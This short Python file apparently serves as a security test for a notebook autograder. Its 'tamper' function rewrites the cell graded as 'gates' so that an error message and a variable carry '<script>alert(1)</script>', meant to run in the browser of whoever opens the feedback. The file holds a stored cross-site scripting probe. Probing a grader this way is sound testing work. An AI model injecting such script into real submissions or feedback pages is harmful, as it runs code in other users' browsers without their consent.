"""Raises errors whose text is a script, for whoever opens the feedback.

shows: alert
"""


def tamper(notebook):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "gates":
            cell["source"] += "\n\ndef and_gate(a, b):\n"
            cell["source"] += "    raise ValueError('<script>alert(1)</script>')\n"
            cell["source"] += "SAID = '<script>alert(1)</script>'\n"
